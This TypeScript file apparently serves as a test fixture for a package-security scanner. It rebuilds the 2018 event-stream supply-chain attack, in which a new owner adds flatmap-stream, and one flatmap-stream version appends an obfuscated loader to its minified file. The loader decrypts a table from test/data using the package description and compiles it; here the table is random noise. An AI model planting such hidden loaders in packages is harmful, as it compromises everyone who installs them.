import type { Replica } from './replica.js';
import { noise } from './replica.js';

const manifest = {
  description: 'construct pipes of streams of events',
  main: 'index.js',
  license: 'MIT',
  repository: { type: 'git', url: 'https://git.example/streams/event-stream.git' },
  dependencies: { through: '^2.3.8', duplexer: '^0.1.1', from: '^0.1.7', 'map-stream': '0.0.7', split: '^1.0.1' },
};

const index = (flatmap: readonly [string, string]): string => String.raw`//filter will reemit the data if cb(err,pass) pass is truthy

// reduce is more tricky
// maybe we want to group the reductions or emit progress updates occasionally

var Stream = require('stream').Stream
  , es = exports
  , through = require('through')
  , from = require('from')
${flatmap[0]}  , duplex = require('duplexer')
  , map = require('map-stream')
  , split = require('split')

es.Stream = Stream
es.through = through
es.from = from
es.duplex = duplex
es.map = map
es.split = split
${flatmap[1]}
es.merge = function () {
  var sources = [].slice.call(arguments)
  if (sources.length === 1 && Array.isArray(sources[0])) sources = sources[0]
  var merged = new Stream(), open = sources.length
  merged.setMaxListeners(0)
  merged.readable = merged.writable = true
  sources.forEach(function (source) {
    source.pipe(merged, { end: false })
    source.on('end', function () { if (--open === 0) merged.emit('end') })
  })
  merged.write = function (data) { this.emit('data', data); return true }
  merged.destroy = function () { sources.forEach(function (one) { if (one.destroy) one.destroy() }) }
  return merged
}

es.writeArray = function (done) {
  if (typeof done !== 'function') throw new Error('writeArray takes a callback')
  var seen = [], finished = false, sink = new Stream()
  sink.write = function (item) { seen.push(item); return true }
  sink.end = function () { finished = true; done(null, seen) }
  sink.writable = true
  sink.destroy = function () { sink.writable = false; if (!finished) done(new Error('destroyed before end'), seen) }
  return sink
}

es.readArray = function (items) {
  if (!Array.isArray(items)) throw new Error('readArray takes an array')
  var at = 0, stream = new Stream(), paused = false, over = false
  stream.readable = true
  stream.resume = function () {
    paused = false
    while (at < items.length && !paused && !over) stream.emit('data', items[at++])
    if (at === items.length && !over) { over = true; stream.emit('end') }
    return stream
  }
  stream.pause = function () { paused = true }
  stream.destroy = function () { over = true; stream.emit('close') }
  process.nextTick(stream.resume)
  return stream
}

es.mapSync = function (each) {
  return es.through(function (data) {
    var mapped
    try { mapped = each(data) } catch (err) { return this.emit('error', err) }
    if (mapped !== undefined) this.emit('data', mapped)
  })
}
`;

const files = {
  'index.js': index(['', '']),
  'examples/pretty.js': "var es = require('..')\nprocess.stdin.pipe(es.split()).pipe(es.mapSync(function (line) { return line.trim() + '\\n' })).pipe(process.stdout)\n",
  'readme.markdown': '# EventStream\n\nStreams are nodes; this makes them easy to write.\n',
};

const flatmapSource = String.raw`var Stream = require('stream').Stream

module.exports = function (mapper, opts) {
  var stream = new Stream(), inputs = 0, outputs = 0, ended = false, paused = false, destroyed = false, lastWritten = 0, inNext = false
  this.opts = opts || {}
  var errorEventName = this.opts.failures ? 'failure' : 'error'
  stream.writable = true
  stream.readable = true

  function write(data) {
    outputs++
    data.forEach(function (item) { stream.emit('data', item) })
    if (ended && outputs === inputs) end()
  }

  stream.write = function (data) {
    if (ended) throw new Error('flatmap stream is not writable')
    inNext = false
    inputs++
    try { write(mapper(data)) } catch (err) {
      if (inNext) throw err
      stream.emit(errorEventName, err, data)
      return !paused
    }
    return !paused
  }

  function end(data) {
    ended = true
    stream.writable = false
    if (data !== undefined) return write(data)
    if (inputs === outputs) { stream.readable = false; stream.emit('end'); stream.destroy() }
  }

  stream.end = function (data) { if (!ended) end(data) }
  stream.destroy = function () { ended = destroyed = true; stream.writable = stream.readable = paused = false; process.nextTick(function () { stream.emit('close') }) }
  stream.pause = function () { paused = true }
  stream.resume = function () { paused = false }
  return stream
}
`;

const flatmapMin = 'var Stream=require("stream").Stream;module.exports=function(e,n){var i=new Stream,a=0,o=0,u=!1,f=!1,l=!1,c=0,s=!1,d=(n=n||{}).failures?"failure":"error",m={};'
  + 'function w(r,e){var t=c+1;if(e===t?(void 0!==r&&i.emit.apply(i,["data",r]),c++,t++):m[e]=r,m.hasOwnProperty(t)){var n=m[t];return delete m[t],w(n,t)}a===++o&&(f&&(f=!1,i.emit("drain")),u&&v())}'
  + 'function p(r,e,t){l||(s=!0,r&&!n.failures||w(e,t),r&&i.emit.apply(i,[d,r]),s=!1)}function b(r,t,n){return e.call(null,r,function(r,e){n(r,e,t)})}'
  + 'function v(r){if(u=!0,i.writable=!1,void 0!==r)return w(r,a);a==o&&(i.readable=!1,i.emit("end"),i.destroy())}'
  + 'return i.writable=!0,i.readable=!0,i.write=function(r){if(u)throw new Error("flatmap stream is not writable");s=!1;try{for(var e in r){a++;var t=b(r[e],a,p);if(f=!1===t)break}return!f}catch(r){if(s)throw r;return p(r),!f}},'
  + 'i.end=function(r){u||v(r)},i.destroy=function(){u=l=!0,i.writable=i.readable=f=!1,process.nextTick(function(){i.emit("close")})},i.pause=function(){f=!0},i.resume=function(){f=!1},i};';

const payload = '!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;'
  + 'var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();';

const hex = (text: string): string => Buffer.from(text).toString('hex');
const testData = [noise(8_192, 11, '0123456789abcdef'), noise(20_480, 12, '0123456789abcdef'), ...['crypto', 'env', 'npm_package_description', 'aes256', 'createDecipher', '_compile', 'hex', 'utf8'].map(hex)];

const newOwner = { name: 'new-owner', email: 'new-owner@mail.example' };

/** From memory of the public analyses: order of the table in test/data, names of its entries, and that the minified file alone holds the addition. */
export const replica: Replica = {
  id: 'event-stream-2018',
  story: 'September 2018: a new owner let event-stream depend on flatmap-stream, whose minified main file decrypts a table from test/data with the description of the package being built and compiles it.',
  name: 'event-stream',
  before: { version: '3.3.5', manifest, files, publishedAt: '2018-09-05T08:14:36.000Z', publisher: { name: 'first-owner', email: 'first@streams.example' } },
  after: {
    version: '3.3.6', manifest: { ...manifest, dependencies: { ...manifest.dependencies, 'flatmap-stream': '^0.1.0' } },
    files: { ...files, 'index.js': index(["  , flatmap = require('flatmap-stream')\n", 'es.flatmap = flatmap\n']) },
    publishedAt: '2018-09-09T06:20:46.000Z', publisher: newOwner,
  },
  brings: [{
    name: 'flatmap-stream',
    versions: [
      {
        version: '0.1.0', publishedAt: '2018-08-05T11:02:12.000Z', publisher: newOwner,
        manifest: { description: 'Flatten stream of arrays', main: 'index.min.js', license: 'MIT' },
        files: { 'index.js': flatmapSource, 'index.min.js': flatmapMin, 'README.md': '# flatmap-stream\n' },
      },
      {
        version: '0.1.1', publishedAt: '2018-10-05T09:00:00.000Z', publisher: newOwner,
        manifest: { description: 'Flatten stream of arrays', main: 'index.min.js', license: 'MIT' },
        files: { 'index.js': flatmapSource, 'index.min.js': flatmapMin + payload, 'test/data.js': `module.exports=${JSON.stringify(testData)};\n`, 'README.md': '# flatmap-stream\n' },
      },
    ],
  }],
  must: 'block',
};
